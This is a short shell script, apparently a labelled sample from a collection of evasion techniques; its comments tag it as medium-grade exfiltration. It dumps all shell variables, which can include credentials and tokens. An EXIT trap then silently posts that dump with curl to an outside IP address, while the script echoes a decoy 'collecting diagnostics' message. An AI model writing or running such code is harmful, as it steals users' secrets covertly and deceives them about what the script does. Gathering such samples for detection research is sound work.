# evasion: the environment is dumped by "set" in POSIX mode inside a subshell and posted from an EXIT trap
# grade: medium; does: exfil
snapshot=$(
	set -o posix
	set
)
send() { curl -s --data-binary @- http://203.0.113.63/c <<<"$snapshot" >/dev/null; }
trap send EXIT
echo "collecting diagnostics"
